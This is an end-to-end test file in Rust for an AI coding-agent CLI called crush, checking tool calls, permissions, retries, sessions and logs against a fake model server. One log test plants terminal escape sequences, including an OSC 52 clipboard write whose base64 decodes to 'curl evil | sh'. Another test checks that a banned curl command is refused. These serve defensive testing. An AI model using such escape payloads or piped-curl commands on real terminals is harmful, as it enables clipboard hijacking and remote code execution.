//! `crush run` end to end: the real binary against the fake model server.

use crate::support::{Dialect, FakeServer, Reply, TestEnv};
use serde_json::{Value, json};

const BOTH: [Dialect; 2] = [Dialect::OpenAi, Dialect::Anthropic];

fn env_with(server: &FakeServer, dialect: Dialect) -> TestEnv {
    let env = TestEnv::new();
    env.use_server(server, dialect);
    env
}

fn json_lines(stdout: &str) -> Vec<Value> {
    stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("not JSON ({e}): {l}")))
        .collect()
}

fn session_json(env: &TestEnv) -> Value {
    let list = env.run(&["sessions", "list", "--json"], None);
    list.assert_success();
    let sessions: Value = serde_json::from_str(&list.stdout).expect("sessions list --json");
    let id = sessions[0]["id"]
        .as_str()
        .expect("a session id")
        .to_string();
    let show = env.run(&["sessions", "show", &id, "--json"], None);
    show.assert_success();
    serde_json::from_str(&show.stdout).expect("sessions show --json")
}

#[test]
fn plain_answer_streams_to_stdout_only() {
    for d in BOTH {
        let server = FakeServer::with_script(vec![Reply::text("Hello from the model.")]);
        let env = env_with(&server, d);
        let out = env.run(&["run", "say hello"], None);
        out.assert_success();
        assert_eq!(out.stdout, "Hello from the model.\n", "{d:?}");
        let req = server.last_request();
        assert_eq!(req.user_texts(), vec!["say hello".to_string()]);
        assert!(
            req.system_text().contains("Working directory"),
            "system prompt has the env"
        );
        assert!(req.tool_names().contains(&"bash".to_string()));
    }
}

#[test]
fn bash_tool_call_writes_a_file_with_yolo() {
    for d in BOTH {
        let server = FakeServer::with_script(vec![
            Reply::tool_call("bash", json!({"command": "echo hi > f.txt"})),
            Reply::text("Created f.txt."),
        ]);
        let env = env_with(&server, d);
        let out = env.run(&["run", "-q", "-y", "make f.txt"], None);
        out.assert_success();
        assert_eq!(env.read_project_file("f.txt"), "hi\n", "{d:?}");
        assert_eq!(out.stdout, "Created f.txt.\n");
        let results = server.last_request().tool_results();
        assert_eq!(results.len(), 1);
        assert!(
            !results[0].2,
            "bash result is not an error: {:?}",
            results[0]
        );
    }
}

#[test]
fn several_tool_calls_in_one_step() {
    let server = FakeServer::with_script(vec![
        Reply::tool_calls(vec![
            crate::support::ToolCall::new("bash", json!({"command": "echo one > 1.txt"})),
            crate::support::ToolCall::new("bash", json!({"command": "echo two > 2.txt"})),
        ]),
        Reply::text("both"),
    ]);
    let env = env_with(&server, Dialect::OpenAi);
    env.run(&["run", "-y", "two files"], None).assert_success();
    assert_eq!(env.read_project_file("1.txt"), "one\n");
    assert_eq!(env.read_project_file("2.txt"), "two\n");
    assert_eq!(server.last_request().tool_results().len(), 2);
}

#[test]
fn view_then_edit_changes_the_file() {
    for d in BOTH {
        let server = FakeServer::with_script(vec![
            Reply::tool_call("view", json!({"file_path": "a.txt"})),
            Reply::tool_call(
                "edit",
                json!({"file_path": "a.txt", "old_string": "world", "new_string": "crush"}),
            ),
            Reply::text("Edited."),
        ]);
        let env = env_with(&server, d);
        env.write_project_file("a.txt", "hello world\n");
        let out = env.run(&["run", "-y", "edit a.txt"], None);
        out.assert_success();
        assert_eq!(env.read_project_file("a.txt"), "hello crush\n", "{d:?}");
        let view_result = &server.request(1).tool_results()[0];
        assert!(view_result.1.contains("hello world"), "{view_result:?}");
    }
}

#[test]
fn edit_without_view_is_refused_and_the_model_is_told() {
    let server = FakeServer::with_script(vec![
        Reply::tool_call(
            "edit",
            json!({"file_path": "a.txt", "old_string": "world", "new_string": "crush"}),
        ),
        Reply::text("I must view it first."),
    ]);
    let env = env_with(&server, Dialect::Anthropic);
    env.write_project_file("a.txt", "hello world\n");
    env.run(&["run", "-y", "edit a.txt"], None).assert_success();
    assert_eq!(env.read_project_file("a.txt"), "hello world\n");
    let (_, text, is_error) = server.last_request().tool_results()[0].clone();
    assert!(is_error, "{text}");
    assert!(text.to_lowercase().contains("view"), "{text}");
}

#[test]
fn a_call_needing_permission_is_refused_and_exits_3() {
    let server = FakeServer::with_script(vec![Reply::tool_call(
        "bash",
        json!({"command": "echo hi > f.txt"}),
    )]);
    let env = env_with(&server, Dialect::OpenAi);
    let out = env.run(&["run", "make f.txt"], None);
    out.assert_code(3);
    assert!(
        !env.project().join("f.txt").exists(),
        "the tool must not run"
    );
    assert!(out.stderr.contains("--yolo"), "{}", out.stderr);
    assert!(out.stderr.contains("allowed_tools"), "{}", out.stderr);
    // The model is told why, in the stored session.
    let s = session_json(&env);
    let parts = s["messages"].to_string();
    assert!(parts.contains("Permission denied"), "{parts}");
}

#[test]
fn allowed_tools_in_config_grant_permission() {
    let server = FakeServer::with_script(vec![
        Reply::tool_call("bash", json!({"command": "echo hi > f.txt"})),
        Reply::text("ok"),
    ]);
    let env = TestEnv::new();
    let mut cfg = env.config_for(&server, Dialect::OpenAi);
    cfg["permissions"] = json!({"allowed_tools": ["bash:execute"]});
    env.write_config(&cfg);
    env.run(&["run", "make f.txt"], None).assert_success();
    assert_eq!(env.read_project_file("f.txt"), "hi\n");
}

#[test]
fn reading_outside_the_project_needs_permission() {
    let server = FakeServer::with_script(vec![Reply::tool_call(
        "view",
        json!({"file_path": "/etc/hostname"}),
    )]);
    let env = env_with(&server, Dialect::OpenAi);
    let out = env.run(&["run", "read it"], None);
    out.assert_code(3);
    assert!(out.stderr.contains("view"), "{}", out.stderr);
}

#[test]
fn json_output_is_one_event_per_line() {
    let server = FakeServer::with_script(vec![
        Reply::tool_call("bash", json!({"command": "echo hi"})),
        Reply::text("done").with_usage(12, 87, 2048, 100),
    ]);
    let env = env_with(&server, Dialect::Anthropic);
    let out = env.run(&["run", "--json", "-y", "go"], None);
    out.assert_success();
    let events = json_lines(&out.stdout);
    let types: Vec<&str> = events.iter().map(|e| e["type"].as_str().unwrap()).collect();
    assert_eq!(types.first(), Some(&"session"));
    assert_eq!(types.last(), Some(&"finish"));
    for t in ["tool_call", "tool_result", "text", "usage"] {
        assert!(types.contains(&t), "missing {t}: {types:?}");
    }
    assert!(
        events.iter().all(|e| e["v"] == 1),
        "every event has the schema version"
    );
    let usage = events.iter().rfind(|e| e["type"] == "usage").unwrap();
    assert_eq!(usage["input_tokens"], 12);
    assert_eq!(usage["output_tokens"], 87);
    assert_eq!(usage["cache_read_tokens"], 2048);
    assert_eq!(usage["cache_write_tokens"], 100);
    let finish = events.last().unwrap();
    assert_eq!(finish["reason"], "end_turn");
    assert_eq!(finish["text"], "done");
    let session_id = events[0]["session_id"].as_str().unwrap();
    assert_eq!(finish["session_id"], session_id);
}

#[test]
fn piped_stdin_goes_before_the_prompt() {
    let server = FakeServer::with_script(vec![Reply::text("reviewed")]);
    let env = env_with(&server, Dialect::OpenAi);
    let out = env.run(&["run", "review this"], Some("diff --git a b\n+x\n"));
    out.assert_success();
    let texts = server.last_request().user_texts();
    assert_eq!(texts, vec!["diff --git a b\n+x\n\nreview this".to_string()]);
}

#[test]
fn empty_prompt_is_a_usage_error() {
    let server = FakeServer::start();
    let env = env_with(&server, Dialect::OpenAi);
    let out = env.run(&["run"], Some("   \n"));
    out.assert_code(2);
    assert!(out.stderr.contains("no prompt"), "{}", out.stderr);
    assert_eq!(server.request_count(), 0);
}

#[test]
fn output_file_gets_the_final_message() {
    let server = FakeServer::with_script(vec![Reply::text("final words")]);
    let env = env_with(&server, Dialect::OpenAi);
    let out_path = env.root().join("out/answer.txt");
    env.run(&["run", "-o", out_path.to_str().unwrap(), "hi"], None)
        .assert_success();
    assert_eq!(std::fs::read_to_string(out_path).unwrap(), "final words\n");
}

#[test]
fn session_is_stored_listed_and_continued() {
    let server = FakeServer::with_script(vec![
        Reply::text("first answer"),
        Reply::text("second answer"),
    ]);
    let env = env_with(&server, Dialect::OpenAi);
    env.run(&["run", "first question"], None).assert_success();
    let list = env.run(&["sessions", "list"], None);
    list.assert_success();
    assert!(list.stdout.contains("first question"), "{}", list.stdout);
    env.run(&["run", "-C", "second question"], None)
        .assert_success();
    // The second call carried the whole conversation.
    let req = server.last_request();
    assert_eq!(
        req.user_texts(),
        vec!["first question".to_string(), "second question".to_string()]
    );
    let s = session_json(&env);
    assert_eq!(s["messages"].as_array().unwrap().len(), 4);
    assert_eq!(
        s["meta"]["total_prompt_tokens"], 200,
        "running totals of both calls"
    );
    assert_eq!(s["meta"]["prompt_tokens"], 100, "Go Crush's: the last call");
    assert!(env.project().join(".crush/crush.db").exists());
    assert_eq!(
        std::fs::read_to_string(env.project().join(".crush/.gitignore")).unwrap(),
        "*\n!commands/\n!commands/**\n!skills/\n!skills/**\n"
    );
    let projects = std::fs::read_to_string(env.data_dir().join("projects.json")).unwrap();
    assert!(projects.contains("\"projects\""), "{projects}");
}

#[test]
fn server_error_500_is_retried() {
    for d in BOTH {
        let server = FakeServer::with_script(vec![
            Reply::api_error(500, "api_error", "internal"),
            Reply::text("recovered"),
        ]);
        let env = env_with(&server, d);
        let mut cmd = env.crush();
        cmd.env("CRUSH_RETRY_BASE_MS", "10").args(["run", "hi"]);
        let out = crate::support::env::run_command(cmd, None, crate::support::RUN_TIMEOUT);
        out.assert_success();
        assert_eq!(out.stdout, "recovered\n");
        assert_eq!(server.request_count(), 2, "{d:?}");
        assert_eq!(
            server.request(0).body,
            server.request(1).body,
            "identical retry body"
        );
    }
}

#[test]
fn rate_limit_429_honours_retry_after() {
    let server = FakeServer::with_script(vec![
        Reply::api_error(429, "rate_limit_error", "slow down").header("retry-after", "1"),
        Reply::text("after the wait"),
    ]);
    let env = env_with(&server, Dialect::Anthropic);
    let out = env.run(&["run", "hi"], None);
    out.assert_success();
    assert_eq!(out.stdout, "after the wait\n");
    assert_eq!(server.request_count(), 2);
    assert!(out.stderr.contains("retry"), "{}", out.stderr);
}

#[test]
fn unauthorized_is_not_retried() {
    let server = FakeServer::with_script(vec![Reply::api_error(
        401,
        "authentication_error",
        "invalid x-api-key",
    )]);
    let env = env_with(&server, Dialect::Anthropic);
    let out = env.run(&["run", "hi"], None);
    out.assert_code(1);
    assert!(out.stderr.contains("401"), "{}", out.stderr);
    assert!(out.stderr.contains("invalid x-api-key"), "{}", out.stderr);
    assert_eq!(server.request_count(), 1);
}

#[test]
fn a_cut_stream_fails_with_exit_1_and_the_session_still_loads() {
    let cut =
        || Reply::text("partial answer that never ends").fault(crate::support::Fault::CutMidStream);
    let server = FakeServer::with_script(vec![cut(), cut(), cut(), cut()]);
    let env = env_with(&server, Dialect::OpenAi);
    let mut cmd = env.crush();
    cmd.env("CRUSH_RETRY_BASE_MS", "10").args(["run", "hi"]);
    let out = crate::support::env::run_command(cmd, None, crate::support::RUN_TIMEOUT);
    out.assert_code(1);
    assert_eq!(server.request_count(), 4, "retried up to the attempt limit");
    let s = session_json(&env);
    let msgs = s["messages"].as_array().unwrap();
    assert_eq!(msgs[0]["role"], "user");
    assert!(msgs.last().unwrap().to_string().contains("error"));
}

#[test]
fn invalid_tool_json_gets_an_error_result_and_the_run_continues() {
    let server = FakeServer::with_script(vec![
        Reply::invalid_tool_json("bash", "{not json"),
        Reply::text("sorry, fixed"),
    ]);
    let env = env_with(&server, Dialect::Anthropic);
    let out = env.run(&["run", "-y", "go"], None);
    out.assert_success();
    assert_eq!(out.stdout, "sorry, fixed\n");
    let (_, text, is_error) = server.last_request().tool_results()[0].clone();
    assert!(is_error);
    assert!(text.contains("not valid JSON"), "{text}");
}

#[test]
fn unreachable_server_exits_1_with_the_address() {
    let port = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let env = TestEnv::new();
    env.write_config(&json!({
        "providers": {"local": {"type": "openai-compat", "base_url": format!("http://127.0.0.1:{port}/v1"),
            "models": [{"id": "m"}]}}
    }));
    let mut cmd = env.crush();
    cmd.env("CRUSH_RETRY_BASE_MS", "5").args(["run", "hi"]);
    let out = crate::support::env::run_command(cmd, None, crate::support::RUN_TIMEOUT);
    out.assert_code(1);
    assert!(
        out.stderr.contains(&format!("127.0.0.1:{port}")),
        "{}",
        out.stderr
    );
    // The session with the user's prompt is stored and loads.
    let s = session_json(&env);
    assert_eq!(s["messages"][0]["role"], "user");
}

#[test]
fn no_provider_is_a_configuration_error() {
    let env = TestEnv::new();
    let out = env.run(&["run", "hi"], None);
    out.assert_code(2);
    assert!(
        out.stderr.contains("no provider configured"),
        "{}",
        out.stderr
    );
}

#[test]
fn with_no_provider_a_local_server_is_named_and_used_with_auto_local() {
    let server = FakeServer::with_script(vec![Reply::text("local answer")]);
    server.route(
        "GET",
        "/v1/models",
        Reply::raw(
            200,
            vec![("content-type", "application/json")],
            r#"{"object":"list","data":[{"id":"smollm2","object":"model"}]}"#,
        ),
    );
    let env = TestEnv::new();
    // A closed port first: the first that answers is named.
    let probe = format!("127.0.0.1:9,{}", server.addr());
    let vars = [("CRUSH_LOCAL_PROBE", probe.as_str())];
    let started = std::time::Instant::now();
    let out = env.run_with_env(&["run", "hi"], &vars);
    out.assert_code(2);
    assert!(
        out.stderr.contains(&format!(
            "a local model server (a local server) answers at {}/v1: set \"options\": {{\"auto_local\": true}} to use it",
            server.url()
        )),
        "{}",
        out.stderr
    );
    assert!(started.elapsed() < std::time::Duration::from_secs(5));
    assert!(server.model_requests().is_empty());

    // options.auto_local: the server becomes provider 'local', its first model the default.
    env.write_config(&json!({"options": {"auto_local": true}}));
    let out = env.run_with_env(&["run", "-q", "hi"], &vars);
    out.assert_success();
    assert_eq!(out.stdout, "local answer\n");
    assert!(
        out.stderr.contains("using the local model server at")
            && out
                .stderr
                .contains("as provider 'local' (options.auto_local)"),
        "{}",
        out.stderr
    );
    assert_eq!(server.model_requests()[0].body["model"], "smollm2");

    // A provider configured: nothing is probed.
    let other = FakeServer::with_script(vec![Reply::text("configured")]);
    let env = TestEnv::new();
    env.use_server(&other, Dialect::OpenAi);
    let before = server.requests().len();
    env.run_with_env(&["run", "-q", "hi"], &vars)
        .assert_success();
    assert_eq!(
        server.requests().len(),
        before,
        "no probe with a provider configured"
    );
}

#[test]
fn invalid_config_names_file_line_and_column() {
    let env = TestEnv::new();
    std::fs::write(
        env.config_dir().join("crush.json"),
        "{\n  \"providers\": {,\n}\n",
    )
    .unwrap();
    let out = env.run(&["run", "hi"], None);
    out.assert_code(2);
    let file = env.config_dir().join("crush.json");
    assert!(
        out.stderr.contains(&format!("{}:2:", file.display())),
        "{}",
        out.stderr
    );
}

#[test]
fn unknown_config_keys_warn_with_the_file() {
    let server = FakeServer::with_script(vec![Reply::text("ok")]);
    let env = TestEnv::new();
    let mut cfg = env.config_for(&server, Dialect::OpenAi);
    cfg["colour_scheme"] = json!("dark");
    env.write_config(&cfg);
    let out = env.run(&["run", "hi"], None);
    out.assert_success();
    assert!(out.stderr.contains("colour_scheme"), "{}", out.stderr);
    assert!(out.stderr.contains("crush.json"), "{}", out.stderr);
}

#[test]
fn project_config_overrides_global() {
    let server = FakeServer::with_script(vec![Reply::text("ok")]);
    let env = env_with(&server, Dialect::OpenAi);
    env.write_project_file(
        ".crush.json",
        &json!({"providers": {"fake": {"models": [{"id": "other-model"}]}},
                "models": {"large": {"provider": "fake", "model": "other-model"}}})
        .to_string(),
    );
    env.run(&["run", "hi"], None).assert_success();
    assert_eq!(server.last_body()["model"], "other-model");
}

#[test]
fn repeating_the_same_call_is_stopped_as_a_loop() {
    let same = || Reply::tool_call("bash", json!({"command": "echo same"}));
    let server = FakeServer::with_script((0..6).map(|_| same()).collect());
    let env = env_with(&server, Dialect::OpenAi);
    let out = env.run(&["run", "-y", "loop"], None);
    out.assert_code(1);
    assert!(out.stderr.contains("repeating"), "{}", out.stderr);
    assert_eq!(server.request_count(), 6);
}

#[test]
fn banned_commands_are_refused_even_with_yolo() {
    let server = FakeServer::with_script(vec![
        Reply::tool_call("bash", json!({"command": "curl http://example.com"})),
        Reply::text("ok, no curl"),
    ]);
    let env = env_with(&server, Dialect::Anthropic);
    env.run(&["run", "-y", "fetch it"], None).assert_success();
    let (_, text, is_error) = server.last_request().tool_results()[0].clone();
    assert!(is_error && text.contains("not allowed"), "{text}");
}

#[test]
fn version_and_help() {
    let env = TestEnv::new();
    let out = env.run(&["--version"], None);
    out.assert_success();
    assert!(out.stdout.starts_with("crush "), "{}", out.stdout);
    let help = env.run(&["help", "run"], None);
    help.assert_success();
    assert!(help.stdout.contains("--yolo"));
    env.run(&["run", "--frobnicate"], None).assert_code(2);
}

#[test]
fn run_verbose_is_debug_and_v_is_the_version_everywhere() {
    let server = FakeServer::with_script(vec![Reply::text("hello back")]);
    let env = env_with(&server, Dialect::OpenAi);
    let out = env.run(&["run", "--verbose", "hello"], None);
    out.assert_success();
    assert_eq!(out.stdout, "hello back\n");
    assert!(
        out.stderr.contains("crush: debug: "),
        "debug output: {}",
        out.stderr
    );
    assert_eq!(server.model_requests().len(), 1);
    // One meaning per short flag: -v is --version after run too (Go Crush's run -v is
    // --verbose here).
    for v in ["-v", "--version"] {
        let out = env.run(&["run", v, "hello"], None);
        out.assert_success();
        assert!(out.stdout.starts_with("crush "), "{}", out.stdout);
    }
    assert_eq!(server.model_requests().len(), 1, "nothing ran");
}

#[test]
fn sigint_mid_stream_exits_130_and_saves_the_session() {
    let server = FakeServer::with_script(vec![Reply::stall(std::time::Duration::from_secs(30))]);
    let env = env_with(&server, Dialect::OpenAi);
    let mut cmd = env.crush();
    cmd.args(["run", "-q", "wait for it"])
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    let mut child = cmd.spawn().expect("spawn crush");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while server.request_count() == 0 {
        assert!(
            std::time::Instant::now() < deadline,
            "crush never called the model"
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let status = crate::support::env::interrupt(&mut child, deadline);
    assert_eq!(status.code(), Some(130));
    let s = session_json(&env);
    let last = s["messages"]
        .as_array()
        .unwrap()
        .last()
        .unwrap()
        .to_string();
    assert!(last.contains("canceled"), "{last}");
}

/// A pipe whose reading end is already closed: writing to it fails with EPIPE.
fn closed_pipe() -> std::process::Stdio {
    let (reader, writer) = std::io::pipe().unwrap();
    drop(reader);
    writer.into()
}

/// The sessions of `env`, as `sessions list --json` shows them.
fn sessions(env: &TestEnv) -> Vec<Value> {
    let list = env.run(&["sessions", "list", "--json"], None);
    list.assert_success();
    serde_json::from_str::<Value>(&list.stdout)
        .unwrap()
        .as_array()
        .cloned()
        .unwrap_or_default()
}

#[test]
fn a_closed_stderr_or_stdout_never_aborts_and_leaves_no_empty_session() {
    use std::process::Stdio;
    let server = FakeServer::with_script(vec![Reply::text("still answered")]);
    let env = env_with(&server, Dialect::OpenAi);
    // Debug output to a closed stderr (`crush run --verbose hi 2>&1 | head -1` once the reader
    // left).
    let mut cmd = env.crush();
    cmd.args(["run", "--verbose", "hi"])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(closed_pipe());
    let mut child = cmd.spawn().unwrap();
    let out = crate::support::env::collect(child.stdout.take().unwrap());
    let code = crate::support::env::wait_exit(&mut child, "crush -v did not end", String::new);
    assert_eq!(code, 0, "a closed stderr is not fatal");
    std::thread::sleep(std::time::Duration::from_millis(100));
    assert_eq!(
        String::from_utf8_lossy(&out.lock().unwrap()),
        "still answered\n"
    );
    let list = sessions(&env);
    assert_eq!(list.len(), 1, "{list:?}");
    assert_ne!(list[0]["message_count"], 0, "{list:?}");

    // A closed stdout ends the run quietly at its first write (the session event), and the
    // session it had just created, still empty, is not left behind.
    let mut cmd = env.crush();
    cmd.args(["run", "--verbose", "--json", "again"])
        .stdin(Stdio::null())
        .stdout(closed_pipe())
        .stderr(closed_pipe());
    let mut child = cmd.spawn().unwrap();
    let code = crate::support::env::wait_exit(&mut child, "crush did not end", String::new);
    assert_eq!(code, 0, "a closed stdout exits quietly with 0");
    assert_eq!(sessions(&env).len(), 1, "an empty session was left");
}

#[test]
fn a_run_that_fails_before_its_prompt_is_stored_leaves_no_empty_session() {
    // The error comes after the session was created (the budget is read from it): the run
    // returns normally and the empty session goes on the connection it has.
    let server = FakeServer::with_script(vec![]);
    let env = env_with(&server, Dialect::OpenAi);
    let out = env.run(&["run", "--max-cost", "-5", "hi"], None);
    assert_ne!(out.code, 0, "{}", out.stderr);
    assert!(out.stderr.contains("max"), "{}", out.stderr);
    assert_eq!(sessions(&env).len(), 0, "an empty session was left");
    // And a run that stored its prompt keeps its session.
    let server = FakeServer::with_script(vec![Reply::text("ok")]);
    let env = env_with(&server, Dialect::OpenAi);
    env.run(&["run", "hi"], None).assert_success();
    assert_eq!(sessions(&env).len(), 1);
}

#[test]
fn logs_on_a_terminal_show_escape_sequences_instead_of_sending_them() {
    // A repository can ship its own .crush/logs/crush.log: a window title (OSC 0) and a
    // clipboard write (OSC 52) in a logged server error.
    let env = TestEnv::new();
    let attack = "HTTP 500: \x1b]0;owned\x07 \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 end";
    let line = json!({"time": "2026-11-30T09:06:47Z", "level": "WARN", "msg": attack});
    env.write_project_file(".crush/logs/crush.log", &format!("{line}\n"));
    let out = env.run_on_terminal(&["logs"]);
    out.assert_success();
    assert!(
        !out.stdout.contains('\x1b') && !out.stdout.contains('\x07'),
        "{:?}",
        out.stdout
    );
    assert!(
        out.stdout
            .contains("HTTP 500: ^[]0;owned^G ^[]52;c;Y3VybCBldmlsIHwgc2g=^G end"),
        "{:?}",
        out.stdout
    );
    // Piped, the log is the log.
    let piped = env.run(&["logs"], None);
    piped.assert_success();
    assert!(piped.stdout.contains(attack), "{:?}", piped.stdout);
}

#[test]
fn logs_and_projects_commands() {
    let server = FakeServer::with_script(vec![
        Reply::api_error(500, "api_error", "internal"),
        Reply::text("fine"),
    ]);
    let env = env_with(&server, Dialect::OpenAi);
    // Nothing ran here yet.
    env.run(&["logs"], None).assert_code(2);
    let none = env.run(&["projects"], None);
    none.assert_success();
    assert!(none.stderr.contains("No projects"), "{}", none.stderr);

    let mut cmd = env.crush();
    cmd.env("CRUSH_RETRY_BASE_MS", "5").args(["run", "hi"]);
    crate::support::env::run_command(cmd, None, crate::support::RUN_TIMEOUT).assert_success();
    let log = std::fs::read_to_string(env.project().join(".crush/logs/crush.log")).unwrap();
    for line in log.lines() {
        let v: Value = serde_json::from_str(line).expect("JSON lines");
        assert!(v["time"].is_string() && v["level"].is_string() && v["msg"].is_string());
    }
    let out = env.run(&["logs", "-t", "2"], None);
    out.assert_success();
    assert_eq!(out.stdout.lines().count(), 2, "{}", out.stdout);
    let all = env.run(&["logs", "-t", "0"], None).stdout;
    assert!(all.contains("WARN") && all.contains("retrying"), "{all}");
    assert!(all.contains("finished: end_turn"), "{all}");

    let p = env.run(&["projects", "--json"], None);
    p.assert_success();
    let v: Value = serde_json::from_str(&p.stdout).unwrap();
    let root = env.project().canonicalize().unwrap();
    assert_eq!(v["projects"][0]["path"], root.to_string_lossy().as_ref());
    let plain = env.run(&["projects"], None).stdout;
    assert!(
        plain.starts_with(&format!("{}\t", root.display())),
        "{plain}"
    );
}

#[test]
fn every_json_tool_result_follows_its_tool_call() {
    let server = FakeServer::with_script(vec![Reply::tool_calls(vec![
        crate::support::ToolCall::raw("bash", "{not json"),
        crate::support::ToolCall::new("bash", json!({"command": "echo hi > f.txt"})),
        crate::support::ToolCall::new("view", json!({"file_path": "f.txt"})),
    ])]);
    let env = env_with(&server, Dialect::OpenAi);
    // No --yolo: the second call is refused, the third is skipped.
    let out = env.run(&["run", "--json", "go"], None);
    out.assert_code(3);
    let events = json_lines(&out.stdout);
    let mut called: Vec<String> = Vec::new();
    let mut results = 0;
    for e in &events {
        match e["type"].as_str().unwrap() {
            "tool_call" => called.push(e["id"].as_str().unwrap().to_string()),
            "tool_result" => {
                results += 1;
                let id = e["id"].as_str().unwrap();
                assert!(
                    called.iter().any(|c| c == id),
                    "result {id} before its call: {events:?}"
                );
            }
            _ => {}
        }
    }
    assert_eq!((called.len(), results), (3, 3), "{events:?}");
}

#[test]
fn the_database_is_left_closed_with_no_wal_beside_it() {
    // A reader that snapshots the files (agrep) needs crush.db whole, as a closed database is.
    let server = FakeServer::with_script(vec![
        Reply::tool_call("bash", json!({"command": "echo hi"})),
        Reply::text("done"),
    ]);
    let env = env_with(&server, Dialect::OpenAi);
    env.run(&["run", "-q", "-y", "go"], None).assert_success();
    let data = env.project().join(".crush");
    for f in ["crush.db-wal", "crush.db-shm"] {
        assert!(!data.join(f).exists(), "{f} left behind");
    }
    // Everything is in crush.db itself, and the next run opens it as usual.
    let list = env.run(&["sessions", "list", "--json"], None);
    list.assert_success();
    let sessions: Value = serde_json::from_str(&list.stdout).unwrap();
    assert_eq!(sessions.as_array().map(Vec::len), Some(1));
    let db = rusqlite::Connection::open(data.join("crush.db")).unwrap();
    let parts: i64 = db
        .query_row("SELECT count(*) FROM messages", [], |r| r.get(0))
        .unwrap();
    assert!(parts >= 4, "{parts} messages");
}

/// A session is named as every list names it: the `--json` events carry the hash id and the
/// UUID, the session event's title is the stored one, and the hints print the short id.
#[test]
fn sessions_are_named_by_short_id_and_stored_title() {
    let server = FakeServer::with_script(vec![
        Reply::text("reviewed"),
        Reply::status(400, "{\"error\":{\"message\":\"bad request\"}}"),
    ]);
    let env = env_with(&server, Dialect::OpenAi);
    let out = env.run(
        &["run", "--json", "review this change"],
        Some("diff --git a/x b/x\n+secret line\n"),
    );
    out.assert_success();
    let events = json_lines(&out.stdout);
    assert_eq!(events[0]["type"], "session", "{}", out.stdout);
    let uuid = events[0]["uuid"].as_str().unwrap().to_string();
    let id = events[0]["id"].as_str().unwrap().to_string();
    assert_eq!(events[0]["session_id"], uuid.as_str());
    assert_eq!(id.len(), 16, "{id}");
    // Titled from what was asked, not from the diff piped in before it.
    assert_eq!(events[0]["title"], "review this change", "{}", out.stdout);
    let finish = events.last().unwrap();
    assert_eq!((&finish["id"], &finish["uuid"]), (&json!(id), &json!(uuid)));
    let list = env.run(&["sessions", "list", "--json"], None);
    let list: Value = serde_json::from_str(&list.stdout).unwrap();
    assert_eq!(list[0]["title"], "review this change");
    assert_eq!(list[0]["id"], id.as_str());
    // A failed turn's hint names the session by the short id `-s` takes back.
    let again = env.run(&["run", "-s", &id[..7], "go on"], None);
    again.assert_code(1);
    assert!(
        again
            .stderr
            .contains(&format!("crush run -s {} ", &id[..7])),
        "{}",
        again.stderr
    );
    assert!(!again.stderr.contains(&uuid), "{}", again.stderr);
}

/// `crush __complete` answers the completion scripts with the project's live values.
#[test]
fn complete_offers_the_projects_session_ids_and_models() {
    let server = FakeServer::with_script(vec![Reply::text("one"), Reply::text("two")]);
    let env = env_with(&server, Dialect::OpenAi);
    env.run(&["run", "first topic"], None).assert_success();
    env.run(&["run", "second topic"], None).assert_success();
    let list = env.run(&["sessions", "list", "--json"], None);
    let list: Value = serde_json::from_str(&list.stdout).unwrap();
    let ids: Vec<String> = list
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["id"].as_str().unwrap()[..7].to_string())
        .collect();
    assert_eq!(ids.len(), 2);
    let out = env.run(&["__complete", "run", "-s", ""], None);
    out.assert_success();
    let got: Vec<&str> = out.stdout.lines().collect();
    assert_eq!(
        got,
        [
            format!("{}\tsecond topic", ids[0]),
            format!("{}\tfirst topic", ids[1])
        ],
        "{}",
        out.stdout
    );
    // A prefix narrows them; models, files and commands come live too.
    let out = env.run(&["__complete", "-s", &ids[1][..5]], None);
    assert_eq!(out.stdout.lines().count(), 1, "{}", out.stdout);
    let out = env.run(&["__complete", "run", "-m", ""], None);
    assert!(
        out.stdout.lines().any(|l| l.starts_with("fake/fake-model")),
        "{}",
        out.stdout
    );
    env.write_project_file("notes.md", "x");
    let out = env.run(&["__complete", "run", "--attach", "no"], None);
    assert_eq!(out.stdout, "notes.md\n");
    let out = env.run(&["__complete", "help", "mo"], None);
    assert!(out.stdout.starts_with("models\t"), "{}", out.stdout);
    assert_eq!(server.model_requests().len(), 2, "no model call");
}
